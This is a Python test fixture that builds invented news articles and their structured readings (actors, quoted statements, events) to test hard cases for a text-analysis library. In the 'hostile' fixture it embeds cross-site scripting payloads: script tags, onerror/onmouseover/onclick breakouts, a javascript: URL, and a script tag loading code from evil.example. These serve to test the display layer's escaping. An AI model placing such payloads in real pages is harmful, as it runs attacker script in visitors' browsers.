"""Readings of invented articles that are hard to show: nested, overlapping, emoji, right-to-left, hostile."""

from dataclasses import replace

from dragoman.records import (
    Actor,
    Condition,
    Credit,
    Event,
    EventDate,
    EventObject,
    Participant,
    Place,
    Position,
    Reading,
    Segment,
    Span,
    Statement,
    Venue,
    content_id,
)
from tests.ledger.made_readings import document

NESTED = """Home | World | Subscribe
Quarnia sent rockets 🚀 to Belloria, ministry says
By Ada Ferrin

TARNHOLM, March 3 (NWA) - Quarnia has shipped 400 rockets to Belloria, the spokesman Orlo Venn told a news conference on Monday, citing a report of the Lantern Office which says that “the convoys left at night”.

Belloria’s envoy Mira Sund denied that any rockets had arrived. “Not one crate, not one bolt 🔩,” she said.

السفير قال إن الشحنة وصلت — “the shipment arrived”, Venn added.

If the shipments go on, Hestia will close its border, he warned.

Read also: ten quiet harbours
Leave a comment *
"""

HOSTILE_WORDS = """<script>alert(1)</script><img src=x onerror=alert(2)>"""
HOSTILE = f"""Minister's "quoted" <b>title</b> {HOSTILE_WORDS}

“{HOSTILE_WORDS}” & </mark></p>" onmouseover="alert(3), the minister O'Neil <oneil@ministry.example> said.\r
A line with \0 NUL, \u202e reversed and \ud800 a lone surrogate.
"""


class Builder:
    """Finds words in a text and makes records on them."""

    def __init__(self, text: str) -> None:
        self.text = text

    def span(self, words: str, nth: int = 0) -> Span:
        start = -1
        for _ in range(nth + 1):
            start = self.text.index(words, start + 1)
        return start, start + len(words)

    def segment(self, words: str, kind: str, role: str | None = None, nth: int = 0) -> Segment:
        start, end = self.span(words, nth)
        return Segment(start=start, end=end, kind=kind, role=role)  # type: ignore[arg-type]

    def actor(self, name: str, *, nth: int = 0, **fields: object) -> Actor:
        values = {"kind": "person", **fields}
        return Actor(id=content_id("actor", name), name=name, mentions=(self.span(name, nth),), **values)  # type: ignore[arg-type]


def _actors(build: Builder) -> dict[str, Actor]:
    people = [
        build.actor("Orlo Venn", country="QUA", sector="GOV", role="spokesman"),
        build.actor("Mira Sund", country="BEL", sector="GOV", role="envoy"),
        build.actor("Lantern Office", kind="body", country="QUA", sector="SPY"),
        build.actor("Quarnia", kind="state", country="QUA"),
        build.actor("Belloria", kind="state", country="BEL"),
        build.actor("Hestia", kind="state", country="HES"),
    ]
    return {actor.name: actor for actor in people}


def _statements(build: Builder, ids: dict[str, str]) -> dict[str, Statement]:
    def said(name: str, words: list[str], speaker: str, cue: tuple[str, int], **fields: object) -> Statement:
        values = {
            "form": "indirect",
            "act": "assert",
            "confidence": 0.91,
            "speaker_span": build.span(speaker),
            **fields,
        }
        content = tuple(build.span(part) for part in words)
        return Statement(id=content_id("said", name), cue=build.span(*cue), content=content, **values)  # type: ignore[arg-type]

    venn = said(
        "venn",
        ["Quarnia has shipped 400 rockets to Belloria"],
        "Orlo Venn",
        ("told", 0),
        speakers=(ids["Orlo Venn"],),
        venue=Venue(text="a news conference", span=build.span("a news conference")),
        date=EventDate(earliest="2031-03-03", latest="2031-03-03", text="Monday", span=build.span("Monday")),
    )
    report = said(
        "report",
        ["the convoys left at night"],
        "Lantern Office",
        ("says", 1),
        speakers=(ids["Lantern Office"],),
        form="direct",
        parent=venn.id,
    )
    denial = said(
        "denial", ["any rockets had arrived"], "Mira Sund", ("denied", 0), speakers=(ids["Mira Sund"],), act="deny"
    )
    crate = said("crate", ["Not one crate, not one bolt 🔩,"], "she", ("said", 0), speakers=(ids["Mira Sund"],), form="direct", act="deny")  # fmt: skip
    added = said("added", ["السفير قال إن الشحنة وصلت", "the shipment arrived"], "Venn", ("added", 0), speakers=(ids["Orlo Venn"],), form="mixed")  # fmt: skip
    unnamed = said(
        "unnamed",
        ["If the shipments go on, Hestia will close its border"],
        "he warned",
        ("warned", 0),
        speakers=(),
        speakers_reason="“he” may be either",
        act="warn",
        speaker_span=build.span("he", build.text.count("he", 0, build.text.index("he warned"))),
    )
    return {"venn": venn, "report": report, "denial": denial, "crate": crate, "added": added, "unnamed": unnamed}


def _events(build: Builder, ids: dict[str, str], said: dict[str, Statement]) -> list[Event]:
    def taking(name: str, role: str) -> Participant:
        return Participant(actor=ids[name], role=role, span=build.span(name))  # type: ignore[arg-type]

    shipped = Event(
        id=content_id("event", "shipped"),
        type="AID",
        contexts=("military",),
        participants=(taking("Quarnia", "actor"), taking("Belloria", "recipient")),
        objects=(EventObject(text="rockets", kind="missile", span=build.span("400 rockets")),),
        date=EventDate(text="Monday", reason="no publication date"),
        positions=(
            Position(statement=said["venn"].id, status="happened"),
            Position(statement=said["denial"].id, status="denied"),
        ),
        status="happened",
        asserted_by=(said["venn"].id,),
        denied_by=(said["denial"].id,),
        anchor=build.span("shipped"),
        evidence=build.span("Quarnia has shipped 400 rockets to Belloria, the spokesman Orlo Venn told"),
        confidence=0.84,
        rule="made",
    )
    told = Event(
        id=content_id("event", "title"),
        type="AID",
        participants=(taking("Quarnia", "actor"),),
        place=Place(name="Belloria", country="BEL", span=build.span("Belloria")),
        positions=(Position(statement=None, status="happened"),),
        status="happened",
        anchor=build.span("sent"),
        evidence=build.span("Quarnia sent rockets 🚀 to Belloria"),
        confidence=0.5,
        rule="made",
    )
    closing = Event(
        id=content_id("event", "closing"),
        type="SANCTION",
        participants=(taking("Hestia", "actor"),),
        positions=(Position(statement=said["unnamed"].id, status="conditional"),),
        status="conditional",
        asserted_by=(said["unnamed"].id,),
        condition=Condition(span=build.span("If the shipments go on")),
        anchor=build.span("close"),
        evidence=build.span("If the shipments go on, Hestia will close its border, he warned"),
        confidence=0.7,
        rule="made",
    )
    return [shipped, told, closing]


def nested(**given: str | None) -> Reading:
    """Statements in statements, an event inside a statement, words left and right of each other's ends."""
    build = Builder(NESTED)
    actors = _actors(build)
    ids = {name: actor.id for name, actor in actors.items()}
    said = _statements(build, ids)
    whole = document(NESTED, title="Quarnia sent rockets 🚀 to Belloria, ministry says", **given)
    whole = replace(whole, agency="NWA", credits=(Credit(name="NWA", kind="agency", basis="dateline"),))
    body = [
        build.segment(line, "body")
        for line in NESTED.split("\n")
        if line.startswith(("TARN", "Belloria’s", "السفير", "If the"))
    ]
    return Reading(
        version="0.1.0",
        model="made",
        document=whole,
        segments=(
            build.segment("Home | World | Subscribe", "furniture", "menu"),
            build.segment("Quarnia sent rockets 🚀 to Belloria, ministry says", "title"),
            build.segment("By Ada Ferrin", "byline"),
            *body,
            build.segment("Read also: ten quiet harbours", "furniture", "related"),
            build.segment("Leave a comment *", "furniture", "comment-form"),
        ),
        actors=tuple(actors.values()),
        statements=tuple(said.values()),
        events=tuple(_events(build, ids, said)),
    )


def hostile() -> Reading:
    """An article that attacks the page which shows it, in every field that is shown."""
    build = Builder(HOSTILE)
    name = "O'Neil <oneil@ministry.example>"
    minister = build.actor(name, role='minister" onclick="alert(4)')
    said = Statement(
        id=content_id("said", "hostile"),
        speakers=(minister.id,),
        speaker_span=build.span(name),
        cue=build.span("said"),
        content=(build.span(HOSTILE_WORDS, 1),),
        form="direct",
        act="assert",
        venue=Venue(text=HOSTILE_WORDS, span=build.span(HOSTILE_WORDS)),
        confidence=0.9,
    )
    done = Event(
        id=content_id("event", "hostile"),
        type="ACCUSE",
        participants=(Participant(actor=minister.id, role="actor", span=build.span(name)),),
        objects=(EventObject(text=HOSTILE_WORDS, kind="goods", span=build.span(HOSTILE_WORDS)),),
        place=Place(name=HOSTILE_WORDS, span=build.span(HOSTILE_WORDS)),
        casualties=HOSTILE_WORDS,
        positions=(Position(statement=said.id, status="possible"),),
        status="possible",
        asserted_by=(said.id,),
        anchor=build.span("</mark></p>"),
        evidence=build.span('& </mark></p>" onmouseover="alert(3)'),
        confidence=0.6,
        rule=HOSTILE_WORDS,
    )
    whole = document(
        HOSTILE, url="javascript:alert(document.domain)", outlet=HOSTILE_WORDS, title=HOSTILE.split("\n")[0]
    )
    end = HOSTILE.index("\n")
    return Reading(
        version="0.1.0",
        model="made",
        document=replace(whole, agency='"><script src="https://evil.example/x.js"></script>', bylines=(HOSTILE_WORDS,)),
        segments=(Segment(start=0, end=end, kind="title"), Segment(start=end + 2, end=len(HOSTILE), kind="body")),
        actors=(minister,),
        statements=(said,),
        events=(done,),
    )
